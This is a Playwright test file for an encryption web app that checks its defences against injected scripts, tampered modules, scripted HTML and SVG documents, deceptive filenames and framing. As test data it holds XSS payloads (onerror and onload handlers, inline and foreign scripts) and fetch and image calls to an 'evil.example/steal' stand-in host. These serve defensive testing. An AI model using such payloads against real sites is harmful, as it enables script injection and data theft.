/** What strangers try, and what becomes of it: the rows H of host/ABUSE.md that a page can show. */

import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "@playwright/test";

import { choose, publish, visit } from "./acts.js";
import { browse, expect, PASSPHRASE, test, type Complaints } from "./world.js";

/** Does something in the page, outside of what a debugger is allowed to, and returns the name of the error. */
function attempt(page: Page, code: string): Promise<string> {
  const what: Readonly<Record<string, string>> = { code };
  return page.evaluate(({ code }) => new Promise<string>((resolve) => {
    const acts: Readonly<Record<string, () => unknown>> = {
      "inline script": () => { const s = document.createElement("script"); s.append("globalThis.hacked = 1"); document.body.append(s); },
      "script text": () => { const s = document.createElement("script"); s.textContent = "globalThis.hacked = 1"; document.body.append(s); },
      "foreign script": () => { const s = document.createElement("script"); s.src = "https://evil.example/x.js"; document.body.append(s); },
      "eval": () => { (0, eval)("globalThis.hacked = 1"); },
      "innerHTML": () => { document.body.innerHTML = "<img src=x onerror='globalThis.hacked = 1'>"; },
      "handler": () => { document.body.setAttribute("onclick", "globalThis.hacked = 1"); document.body.click(); },
      "worker": () => new Worker("data:text/javascript,0"),
      "policy": () => (globalThis as unknown as { trustedTypes: { createPolicy(n: string, r: object): unknown } }).trustedTypes.createPolicy("mine", {}),
      "same policy": () => (globalThis as unknown as { trustedTypes: { createPolicy(n: string, r: object): unknown } }).trustedTypes.createPolicy("recrypt-sdk", {}),
    };
    setTimeout(() => {
      try {
        acts[code ?? ""]?.();
        resolve("");
      } catch (e) {
        resolve(e instanceof Error ? e.name : "?");
      }
    }, 0);
  }), what);
}

test("H1: injected script is blocked, and reported", async ({ browser, server }) => {
  const complaints: Complaints = { list: [] };
  const page = await browse(browser, complaints);
  await page.goto(server.url);
  await page.getByRole("button", { name: "Create an identity" }).waitFor();
  expect(complaints.list).toEqual([]);
  const reported: Readonly<Record<string, RegExp>> = {
    "inline script": /require-trusted-types-for|script-src/, "script text": /require-trusted-types-for/, "foreign script": /require-trusted-types-for/, "eval": /require-trusted-types-for|script-src/,
    "innerHTML": /require-trusted-types-for/, "handler": /require-trusted-types-for|script-src/, "worker": /require-trusted-types-for/, "policy": /trusted-types/, "same policy": /trusted-types/,
  };
  for (const [what, report] of Object.entries(reported)) {
    complaints.list.length = 0;
    await attempt(page, what);
    await expect.poll(() => complaints.list.some((c) => c.startsWith("policy:") && report.test(c)), { message: what }).toBe(true);
  }
  for (const [what, url] of [["connect-src", "https://evil.example/steal"], ["img-src", "https://evil.example/pixel.png"]] as const) {
    complaints.list.length = 0;
    await page.evaluate(({ what, url }) => { if (what === "connect-src") void fetch(url).catch(() => undefined); else new Image().src = url; }, { what, url });
    await expect.poll(() => complaints.list.some((c) => c.includes(what)), { message: what }).toBe(true);
  }
  expect(await page.evaluate(() => "hacked" in globalThis)).toBe(false);
  await page.context().close();
});

test("H2: a changed byte of the module stops the app before anything is unlocked", async ({ browser, server }) => {
  const page = await browse(browser, { list: [] });
  await page.context().route(/\.wasm$/, async (route) => {
    const response = await route.fetch();
    const body = await response.body();
    body[body.length - 100] = (body[body.length - 100] ?? 0) ^ 1;
    const headers = response.headers();
    delete headers["content-encoding"];
    delete headers["content-length"];
    await route.fulfill({ status: 200, headers, body });
  });
  await page.goto(server.url);
  await expect(page.getByText("The encryption module that came is not the one this page was made with.")).toBeVisible();
  await expect(page.getByLabel("Passphrase")).toHaveCount(0);
  await expect(page.getByRole("button", { name: "Create an identity" })).toHaveCount(0);
  await page.context().close();
});

test("H2: a changed byte of the script or the style sheet is not used", async ({ browser, server }) => {
  for (const kind of ["js", "css"] as const) {
    const page = await browse(browser, { list: [] });
    await page.context().route(new RegExp(`/assets/index-[^/]*\\.${kind}$`), async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, body: `${await response.text()}\n/* changed */` });
    });
    await page.goto(server.url);
    if (kind === "js") {
      await page.waitForTimeout(1000);
      expect(await page.locator("#app").innerHTML()).toBe("");
    } else {
      await page.getByRole("button", { name: "Create an identity" }).waitFor();
      expect(await page.evaluate(() => document.styleSheets.length)).toBe(0);
    }
    await page.context().close();
  }
});

test("H4, H5: what the browser has deleted is not silently replaced", async ({ someone, server }) => {
  const { page } = await someone("iris");
  await page.goto("about:blank");
  await page.goto(`${server.url}/openapi.json`);
  await page.evaluate(async () => {
    for (const { name } of await indexedDB.databases()) {
      if (name !== undefined) await new Promise((resolve) => { indexedDB.deleteDatabase(name).onsuccess = resolve; });
    }
  });
  await page.goto(server.url);
  await expect(page.getByText("This identity is no longer in this browser.")).toBeVisible();
  await expect(page.getByRole("button", { name: "Unlock" })).toHaveCount(0);
  await expect(page.getByRole("button", { name: "I have a recovery kit or a backup" })).toBeVisible();
});

test("H6: a document that is a page or a picture with script is text, or saved", async ({ someone }) => {
  const who = await someone("jana");
  const evil = "<!doctype html><script>top.hacked = 1; globalThis.hacked = 1</script><img src=x onerror='globalThis.hacked = 1'>";
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="globalThis.hacked = 1"><script>globalThis.hacked = 1</script></svg>`;
  for (const [name, content, shown] of [["page.html", evil, true], ["drawing.svg", svg, true], ["page.xhtml", `\u0000${evil}`, false]] as const) {
    const link = await publish(who, name, content);
    await who.page.goto(link);
    await expect(who.page.getByRole("heading", { level: 1 })).toHaveText(name);
    if (shown) await expect(who.page.locator("pre.text")).toHaveText(content);
    else await expect(who.page.getByText("It is not shown here.")).toBeVisible();
    await expect(who.page.locator("iframe, object, embed, main svg script")).toHaveCount(0);
    const download = who.page.waitForEvent("download");
    await who.page.getByRole("button", { name: "Save" }).click();
    expect((await download).suggestedFilename()).toBe(name);
  }
  expect(await who.page.evaluate(() => "hacked" in globalThis)).toBe(false);
});

test("H6: names of files steer nothing", async ({ someone }) => {
  const { page } = await someone("kim");
  await visit(page, "documents");
  await choose(page, "Encrypt", "inv\u202Etxt.exe<b>x", "content");
  await page.getByRole("button", { name: "Encrypt and publish" }).click();
  await expect(page.locator(".notice-title")).toHaveText("invtxt.exe<b>x is encrypted and published.");
});

test("H7: another site cannot frame the app", async ({ browser, server }) => {
  const framing = createServer((_, response) => {
    response.setHeader("Content-Type", "text/html");
    response.end(`<iframe src="${server.url}/" width="800" height="600"></iframe>`);
  });
  await new Promise<void>((resolve) => { framing.listen(0, "127.0.0.1", () => { resolve(); }); });
  const page = await browse(browser, { list: [] });
  await page.goto(`http://localhost:${(framing.address() as AddressInfo).port}/`);
  await page.waitForTimeout(1000);
  expect(await page.frameLocator("iframe").getByText("recrypt").count()).toBe(0);
  await page.context().close();
  await new Promise((resolve) => framing.close(resolve));
});

test("H4, H8: nothing secret is stored in the clear, and there is no service worker", async ({ someone }) => {
  const { page } = await someone("lea");
  const stored = await page.evaluate(async () => {
    const out: string[] = [JSON.stringify(localStorage), JSON.stringify(sessionStorage), document.cookie];
    for (const { name } of await indexedDB.databases()) {
      const db = await new Promise<IDBDatabase>((resolve, reject) => { const r = indexedDB.open(name ?? ""); r.onsuccess = () => { resolve(r.result); }; r.onerror = () => { reject(new Error("storage")); }; });
      for (const table of db.objectStoreNames) {
        const all = await new Promise<unknown[]>((resolve) => { const r = db.transaction(table).objectStore(table).getAll(); r.onsuccess = () => { resolve(r.result as unknown[]); }; });
        out.push(JSON.stringify(all, (_, v: unknown) => (v instanceof Uint8Array ? new TextDecoder("latin1").decode(v) : v)));
      }
      db.close();
    }
    return out.join("\n");
  });
  expect(stored).toContain("lea");
  expect(stored).not.toContain(PASSPHRASE);
  // A mark that there are identities, by which is noticed that the browser has deleted them. It says nothing more.
  expect(await page.evaluate(() => document.cookie)).toBe("recrypt-identities=1");
  expect(await page.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length)).toBe(0);
});
